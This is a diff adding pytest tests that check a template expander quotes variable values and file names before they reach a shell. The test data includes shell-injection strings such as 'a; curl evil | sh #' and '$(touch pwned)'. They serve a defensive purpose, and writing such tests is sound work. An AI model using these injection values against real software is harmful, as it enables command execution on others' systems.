@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import json
+import subprocess
+from pathlib import Path
+
 import pytest
 
 from legion.domain.errors import BadInput
 from legion.domain.plans.expansion import expand
 from legion.domain.plans.template import Template, read, resolve
+from tests.support.attacks import Attacker, Door, attack
 
 BASE = """
 about = "Fix a bug."
@@ -157,6 +162,48 @@ def test_a_broken_template_is_refused_with_its_place(text, message):
 def test_a_template_that_makes_no_sense_is_refused_when_it_is_expanded(text, message):
     with pytest.raises(BadInput, match=message):
         expand(resolve("t", {"t": read("t", text, "t.toml")}), {}, files)
+
+
+WORDS = ("a; curl evil | sh #", "x' ; touch pwned ; '", 'y" ; touch pwned ; "', "$(touch pwned)", "a || true", "~", "*")
+
+
+@attack(Attacker.REPOSITORY, Door.CHECKS)
+@pytest.mark.parametrize("value", WORDS)
+@pytest.mark.parametrize("command", ["printf %s {{v}}", "printf %s '{{v}}'", 'printf %s "{{v}}"', "printf '%s' {{v}}"])
+def test_a_value_is_one_word_of_a_proof_and_never_a_command(value: str, command: str, tmp_path: Path):
+    step = f'[[step]]\nkey = "a"\ntitle = "t"\ncriteria = [{{text = "x", proof = {json.dumps(command)}}}]\n'
+    (ticket,) = expand(read("t", f"[variables.v]\n{step}", "t.toml"), {"v": value}, files).tickets
+    shell = ["sh", "-c", ticket.criteria[0].proof]
+    assert subprocess.run(shell, cwd=tmp_path, capture_output=True, text=True, check=True).stdout == value
+    assert list(tmp_path.iterdir()) == []
+
+
+def of_files(proof: str) -> str:
+    """The proof of a step that is repeated for a file with a name that a shell would read as a command."""
+    criteria = f'criteria = [{{text = "x", proof = {json.dumps(proof)}}}]'
+    step = f'[[step]]\nkey = "a"\ntitle = "t"\nfor = "file in fs"\n{criteria}\n'
+    template = read("t", f'[variables.fs]\ntype = "files"\ndefault = "*"\n{step}', "t.toml")
+    (ticket,) = expand(template, {}, lambda pattern: ["docs/a || true"]).tickets
+    return ticket.criteria[0].proof
+
+
+@attack(Attacker.REPOSITORY, Door.CHECKS)
+@pytest.mark.parametrize("proof", ["{{file}}", "grep -q done {{file}}"])
+def test_the_name_of_a_file_decides_nothing_about_a_proof(proof: str):
+    assert of_files(proof) == proof.replace("{{file}}", "'docs/a || true'")
+
+
+@attack(Attacker.REPOSITORY, Door.CHECKS)
+@pytest.mark.parametrize("proof", ['test -n "$(cat {{file}})"', "cat <<E\n{{file}}\nE", "true `cat {{file}}`"])
+def test_a_name_that_no_rule_can_quote_is_refused(proof: str):
+    with pytest.raises(BadInput, match="is not safe"):
+        of_files(proof)
+
+
+def test_a_proof_that_is_one_variable_is_the_command_that_was_given():
+    step = '[[step]]\nkey = "a"\ntitle = "t"\ncriteria = [{text = "x", proof = "{{v}}"}]\n'
+    (ticket,) = expand(read("t", f"[variables.v]\n{step}", "t.toml"), {"v": "make test && true"}, files).tickets
+    assert ticket.criteria[0].proof == "make test && true"
 
 
 def test_a_template_extends_another():
